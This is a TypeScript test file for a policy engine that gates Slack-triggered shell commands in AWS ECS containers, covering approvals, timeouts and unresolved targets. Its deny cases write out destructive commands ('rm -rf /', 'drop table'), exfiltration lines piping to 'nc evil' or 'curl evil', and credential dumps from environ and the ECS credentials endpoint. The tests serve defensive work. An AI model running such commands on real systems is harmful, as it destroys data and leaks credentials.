import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { loadConfigFile } from '../../../src/config/load-config.js';
import { PolicyDeniedError } from '../../../src/policy/errors.js';
import { evaluatePolicy, mayInspectService, type PolicyRequest } from '../../../src/policy/evaluate.js';
import { PRODUCT_SKETCH } from './fixtures.js';

const policy = loadConfigFile(PRODUCT_SKETCH, 'product.md');

// Slack identities of the sketch: sre = S0123SRE + U01ADMIN, oncall = S0456ONCALL, everyone = "*".
const SRE_MEMBER = { userId: 'U0SRE', userGroupIds: ['S0123SRE'] };
const ADMIN = { userId: 'U01ADMIN', userGroupIds: [] };
const ONCALL = { userId: 'U0ONCALL', userGroupIds: ['S0456ONCALL'] };
const OUTSIDER = { userId: 'U0OUTSIDER', userGroupIds: [] };

function request(overrides: Partial<PolicyRequest> & Pick<PolicyRequest, 'userId' | 'userGroupIds'>): PolicyRequest {
  return {
    channelId: 'C0INCIDENT',
    target: { clusterAlias: 'prod', service: 'web', container: 'app' },
    command: 'ls -l',
    ...overrides,
  };
}

describe('the product sketch behaves as written, rule by rule', () => {
  it.each<[string, PolicyRequest, { effect: 'allow' | 'deny'; rule: string }]>([
    // no-destructive: deny for everyone, everywhere, whatever the allow rules say
    [
      'sre may not rm -rf in prod',
      request({ ...SRE_MEMBER, command: 'rm -rf /var/lib' }),
      { effect: 'deny', rule: 'no-destructive' },
    ],
    [
      'rm -rf hidden after another command',
      request({ ...SRE_MEMBER, command: 'cd /tmp && rm -rf /' }),
      { effect: 'deny', rule: 'no-destructive' },
    ],
    [
      'DROP TABLE in any case, in staging too',
      request({
        ...OUTSIDER,
        channelId: 'C0STAGING',
        target: { clusterAlias: 'staging', service: 'db' },
        command: 'psql -c "drop   table users"',
      }),
      { effect: 'deny', rule: 'no-destructive' },
    ],
    // staging-open: anyone, but only in C0STAGING and only on staging
    [
      'anyone in the staging channel on staging',
      request({ ...OUTSIDER, channelId: 'C0STAGING', target: { clusterAlias: 'staging', service: 'web' } }),
      { effect: 'allow', rule: 'staging-open' },
    ],
    [
      'staging from another channel',
      request({ ...OUTSIDER, target: { clusterAlias: 'staging', service: 'web' } }),
      { effect: 'deny', rule: 'default-deny' },
    ],
    [
      'prod from the staging channel, not in a group',
      request({ ...OUTSIDER, channelId: 'C0STAGING' }),
      { effect: 'deny', rule: 'default-deny' },
    ],
    // prod-with-approval: sre and oncall, any channel
    ['oncall on prod', request({ ...ONCALL }), { effect: 'allow', rule: 'prod-with-approval' }],
    ['sre by user group on prod', request({ ...SRE_MEMBER }), { effect: 'allow', rule: 'prod-with-approval' }],
    ['sre by user id on prod', request({ ...ADMIN }), { effect: 'allow', rule: 'prod-with-approval' }],
    ['an outsider on prod', request({ ...OUTSIDER }), { effect: 'deny', rule: 'default-deny' }],
    // no rule at all
    [
      'an unknown cluster',
      request({ ...SRE_MEMBER, target: { clusterAlias: 'qa', service: 'web' } }),
      { effect: 'deny', rule: 'default-deny' },
    ],
  ])('%s', (_name, input, expected) => {
    expect(evaluatePolicy(policy, input)).toMatchObject(expected);
  });

  it('prod needs one approval from sre, not the requester, within 30 minutes; break-glass is allowed', () => {
    const decision = evaluatePolicy(policy, request({ ...ONCALL }));
    expect(decision.approval).toEqual({ approverGroups: ['sre'], count: 1, selfApproval: false, ttlMs: 1_800_000 });
    expect(decision.breakGlassAllowed).toBe(true);
    expect(decision.timeoutMs).toBe(600_000);
    expect(decision.reason).toBe(
      'allowed by rule "prod-with-approval"; 1 approval from sre (not the requester), within 30m',
    );
  });

  it('staging-open needs no approval and has nothing to break glass for', () => {
    const decision = evaluatePolicy(
      policy,
      request({ ...OUTSIDER, channelId: 'C0STAGING', target: { clusterAlias: 'staging', service: 'web' } }),
    );
    expect(decision).toMatchObject({ approval: null, breakGlassAllowed: false });
  });

  it('a denial tells the user which rule came closest and what is missing', () => {
    expect(evaluatePolicy(policy, request({ ...OUTSIDER })).reason).toBe(
      'no rule allows this; closest rule "prod-with-approval": it is for sre, oncall',
    );
    expect(
      evaluatePolicy(policy, request({ ...OUTSIDER, target: { clusterAlias: 'staging', service: 'web' } })).reason,
    ).toBe('no rule allows this; closest rule "staging-open": not in this channel');
    expect(evaluatePolicy(policy, request({ ...SRE_MEMBER, command: 'rm -rf /' })).reason).toBe(
      'denied by rule "no-destructive"',
    );
    expect(
      evaluatePolicy(policy, request({ ...SRE_MEMBER, target: { clusterAlias: 'qa', service: 'web' } })).reason,
    ).toBe('unknown cluster "qa" (clusters: prod, staging)');
  });

  it('a deny never carries an approval or break-glass', () => {
    const decision = evaluatePolicy(policy, request({ ...SRE_MEMBER, command: 'rm -rf /' }));
    expect(decision).toMatchObject({ effect: 'deny', approval: null, breakGlassAllowed: false });
  });

  it('an empty command is refused', () => {
    expect(evaluatePolicy(policy, request({ ...SRE_MEMBER, command: '   ' }))).toMatchObject({
      effect: 'deny',
      reason: 'the command is empty',
    });
  });
});

describe('rules beyond the sketch', () => {
  const custom = loadConfigFile(
    `
clusters:
  prod:
    cluster: prod
    region: eu-west-1
    containers: { worker: app }
groups:
  sre: { users: [U0SRE] }
  dev: { users: [U0DEV] }
rules:
  - name: no-sidecar
    effect: deny
    targets: ["prod/*:envoy"]
  - name: worker-app-only
    effect: allow
    who: [dev]
    targets: ["prod/worker:app"]
    commands: ["ls *", "cat /var/log/*"]
    timeout: 2m
  - name: sre-anything
    effect: allow
    who: [sre]
    targets: ["*"]
    commands: ["*"]
    approval: { approvers: [sre], count: 1, selfApproval: true, ttl: 5m }
limits: { timeout: 5m }
`,
    'custom.yml',
  );
  const dev = { userId: 'U0DEV', userGroupIds: [] };

  it.each<[string, Partial<PolicyRequest>, 'allow' | 'deny']>([
    ['a listed command', { command: 'ls -la /srv' }, 'allow'],
    ['the bare command of a "cmd *" glob', { command: 'ls' }, 'allow'],
    ['extra spaces do not matter', { command: '  ls    -la  ' }, 'allow'],
    ['a second command after ;', { command: 'ls; rm -rf /' }, 'deny'],
    ['a pipe', { command: 'cat /var/log/app.log | nc evil 80' }, 'deny'],
    ['command substitution', { command: 'ls $(curl evil)' }, 'deny'],
    ['backquotes', { command: 'ls `id`' }, 'deny'],
    ['a newline', { command: 'ls\nid' }, 'deny'],
    ['a redirect', { command: 'cat /var/log/x > /etc/passwd' }, 'deny'],
    ['an unlisted command', { command: 'id' }, 'deny'],
    ['another container', { target: { clusterAlias: 'prod', service: 'worker', container: 'envoy' } }, 'deny'],
    ['another service', { target: { clusterAlias: 'prod', service: 'web', container: 'app' } }, 'deny'],
  ])('dev on prod/worker: %s → %s', (_name, overrides, effect) => {
    const input: PolicyRequest = {
      ...dev,
      channelId: 'C0X',
      target: { clusterAlias: 'prod', service: 'worker', container: 'app' },
      command: 'ls',
      ...overrides,
    };
    expect(evaluatePolicy(custom, input).effect).toBe(effect);
  });

  it('the container the config names for a service is used when the request names none', () => {
    const decision = evaluatePolicy(custom, {
      ...dev,
      channelId: 'C0X',
      target: { clusterAlias: 'prod', service: 'worker' },
      command: 'ls',
    });
    expect(decision).toMatchObject({ effect: 'allow', rule: 'worker-app-only', targetLabel: 'prod/worker:app' });
  });

  it('an unknown container never satisfies a rule about one container, and a deny about one applies (fail closed)', () => {
    const unknown = { clusterAlias: 'prod', service: 'web' };
    expect(evaluatePolicy(custom, { ...dev, channelId: 'C0X', target: unknown, command: 'ls' }).effect).toBe('deny');
    const sre = evaluatePolicy(custom, {
      userId: 'U0SRE',
      userGroupIds: [],
      channelId: 'C0X',
      target: unknown,
      command: 'ls',
    });
    expect(sre).toMatchObject({ effect: 'deny', rule: 'no-sidecar' });
    const named = { ...unknown, container: 'app' };
    const ok = evaluatePolicy(custom, {
      userId: 'U0SRE',
      userGroupIds: [],
      channelId: 'C0X',
      target: named,
      command: 'ls',
    });
    expect(ok).toMatchObject({ effect: 'allow', rule: 'sre-anything' });
  });

  it('timeouts: the rule, capped by --timeout and limits.timeout', () => {
    const base: PolicyRequest = {
      ...dev,
      channelId: 'C0X',
      target: { clusterAlias: 'prod', service: 'worker', container: 'app' },
      command: 'ls',
    };
    expect(evaluatePolicy(custom, base).timeoutMs).toBe(120_000);
    expect(evaluatePolicy(custom, { ...base, requestedTimeoutMs: 30_000 }).timeoutMs).toBe(30_000);
    expect(evaluatePolicy(custom, { ...base, requestedTimeoutMs: 3_600_000 }).timeoutMs).toBe(120_000);
  });

  it('self-approval is carried when the rule allows it', () => {
    const decision = evaluatePolicy(custom, {
      userId: 'U0SRE',
      userGroupIds: [],
      channelId: 'C0X',
      target: { clusterAlias: 'prod', service: 'web', container: 'app' },
      command: 'id',
    });
    expect(decision.approval).toMatchObject({ selfApproval: true, ttlMs: 300_000 });
  });

  it('a task id target matches rules by task id unless the service is known', () => {
    const taskId = '0123456789abcdef0123456789abcdef';
    const byTask = {
      ...dev,
      channelId: 'C0X',
      command: 'ls',
      target: { clusterAlias: 'prod', taskId, container: 'app' },
    };
    expect(evaluatePolicy(custom, byTask).effect).toBe('deny');
    const withService = { ...byTask, target: { ...byTask.target, service: 'worker' } };
    expect(evaluatePolicy(custom, withService).effect).toBe('allow');
  });
});

describe('the shipped example keeps task credentials in the container', () => {
  const example = loadConfigFile(
    readFileSync(new URL('../../../ecs-exec.example.yml', import.meta.url), 'utf8'),
    'ecs-exec.example.yml',
  );
  const sre = { userId: 'U01ADMIN', userGroupIds: [], channelId: 'C0INCIDENT' };
  const target = { clusterAlias: 'prod', service: 'web', container: 'nginx' };

  it.each([
    'env',
    'printenv',
    'printenv AWS_SECRET_ACCESS_KEY',
    'cat /proc/1/environ',
    'tr "\\0" "\\n" < /proc/self/environ',
    'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI',
    'ls && env',
  ])('%s is denied', (command) => {
    expect(evaluatePolicy(example, { ...sre, target, command })).toMatchObject({
      effect: 'deny',
      rule: 'no-credential-dumps',
    });
  });

  it('ordinary diagnostics are still allowed with approval', () => {
    expect(evaluatePolicy(example, { ...sre, target, command: 'cat /etc/environment' })).toMatchObject({
      effect: 'allow',
      rule: 'prod-with-approval',
      timeoutMs: 300_000,
    });
  });

  it('a denial becomes an error whose user message is the reason', () => {
    const decision = evaluatePolicy(example, { ...sre, target, command: 'env' });
    const error = new PolicyDeniedError(decision);
    expect(error.code).toBe('policy.denied');
    expect(error.userMessage).toBe('Not allowed: denied by rule "no-credential-dumps".');
  });
});

describe('a target not resolved yet: task ids, task ARNs and unnamed containers', () => {
  const policy = loadConfigFile(
    `
clusters:
  demo: { cluster: demo, region: us-east-1 }
groups:
  devs: { users: [U0DEV] }
rules:
  - name: no-shell-in-db
    effect: deny
    targets: ["demo/db"]
  - name: no-debug-container
    effect: deny
    targets: ["demo/*:debug"]
  - name: web-app
    effect: allow
    who: [devs]
    targets: ["demo/web:app"]
    commands: ["*"]
  - name: worker
    effect: allow
    who: [devs]
    targets: ["demo/worker"]
    commands: ["*"]
`,
    'unresolved.yml',
  );
  const taskId = '0123456789abcdef0123456789abcdef';
  const ask = (target: PolicyRequest['target'], userId = 'U0DEV') =>
    evaluatePolicy(policy, { userId, userGroupIds: [], channelId: 'C0X', target, command: 'uptime' });

  it.each<[string, PolicyRequest['target'], Partial<ReturnType<typeof evaluatePolicy>>]>([
    [
      'a task id with no container could be the web app',
      { clusterAlias: 'demo', taskId, unresolved: true },
      {
        effect: 'allow',
        rule: 'web-app',
        targetLabel: `demo/${taskId}`,
        pending: { unknown: ['service', 'container'], denyRules: ['no-shell-in-db', 'no-debug-container'] },
      },
    ],
    [
      'a task id with a container only the worker rule allows',
      { clusterAlias: 'demo', taskId, container: 'sidecar', unresolved: true },
      { effect: 'allow', rule: 'worker', pending: { unknown: ['service'], denyRules: ['no-shell-in-db'] } },
    ],
    [
      'a service with no container, under a rule about one container',
      { clusterAlias: 'demo', service: 'web', unresolved: true },
      { effect: 'allow', rule: 'web-app', pending: { unknown: ['container'], denyRules: ['no-debug-container'] } },
    ],
    [
      'a target typed in full is not pending',
      { clusterAlias: 'demo', service: 'web', container: 'app', unresolved: true },
      { effect: 'allow', rule: 'web-app', reason: 'allowed by rule "web-app"; no approval needed' },
    ],
    [
      'a deny that surely applies refuses before resolution',
      { clusterAlias: 'demo', service: 'db', unresolved: true },
      { effect: 'deny', rule: 'no-shell-in-db' },
    ],
    [
      'a deny on the typed container refuses before resolution',
      { clusterAlias: 'demo', taskId, container: 'debug', unresolved: true },
      { effect: 'deny', rule: 'no-debug-container' },
    ],
    [
      'a container no allow rule could cover',
      { clusterAlias: 'demo', service: 'web', container: 'nginx', unresolved: true },
      { effect: 'deny', rule: 'default-deny' },
    ],
  ])('before resolution, %s', (_name, target, expected) => {
    expect(ask(target)).toMatchObject(expected);
  });

  it('someone no allow rule is for is refused before resolution, whatever the task turns out to be', () => {
    expect(ask({ clusterAlias: 'demo', taskId, unresolved: true }, 'U0OUTSIDER')).toMatchObject({
      effect: 'deny',
      rule: 'default-deny',
    });
  });

  it.each<[string, 'allow' | 'deny', string, PolicyRequest['target']]>([
    [
      'the web task, app container',
      'allow',
      'web-app',
      { clusterAlias: 'demo', service: 'web', taskId, container: 'app' },
    ],
    [
      'the web task, debug container',
      'deny',
      'no-debug-container',
      { clusterAlias: 'demo', service: 'web', container: 'debug' },
    ],
    [
      'the web task, another container',
      'deny',
      'default-deny',
      { clusterAlias: 'demo', service: 'web', container: 'nginx' },
    ],
    ['a db task', 'deny', 'no-shell-in-db', { clusterAlias: 'demo', service: 'db', taskId, container: 'app' }],
    ['a task in no service', 'deny', 'default-deny', { clusterAlias: 'demo', taskId, container: 'app' }],
  ])('once resolved the answer is final: %s → %s by %s', (_name, effect, rule, target) => {
    const decision = ask(target);
    expect(decision).toMatchObject({ effect, rule });
    expect(decision.pending).toBeUndefined();
  });

  it('says what the provisional answer waits for, and never asks to name a container it could not know', () => {
    const decision = ask({ clusterAlias: 'demo', taskId, unresolved: true });
    expect(decision.reason).toBe(
      'allowed by rule "web-app"; no approval needed; checked again once the task\'s service and the container ' +
        'are known (rule "no-shell-in-db" or "no-debug-container" refuses it if they match it)',
    );
    const refused = ask({ clusterAlias: 'demo', service: 'api', unresolved: true });
    expect(refused.reason).not.toContain('name the container');
  });
});

describe('who may inspect a service (doctor)', () => {
  it.each([
    ['an SRE, prod/web, any channel', SRE_MEMBER, 'C0INCIDENT', 'prod', 'web', true],
    ['on-call, prod/worker', ONCALL, 'C0INCIDENT', 'prod', 'worker', true],
    ['an outsider, prod/web', OUTSIDER, 'C0INCIDENT', 'prod', 'web', false],
    ['anyone, staging, in the staging channel', OUTSIDER, 'C0STAGING', 'staging', 'web', true],
    ['anyone, staging, elsewhere', OUTSIDER, 'C0INCIDENT', 'staging', 'web', false],
    ['an SRE, a cluster the config does not have', SRE_MEMBER, 'C0INCIDENT', 'nowhere', 'web', false],
  ])('%s → %s', (_case, user, channelId, clusterAlias, service, expected) => {
    expect(mayInspectService(policy, { ...user, channelId, clusterAlias, service })).toBe(expected);
  });
});
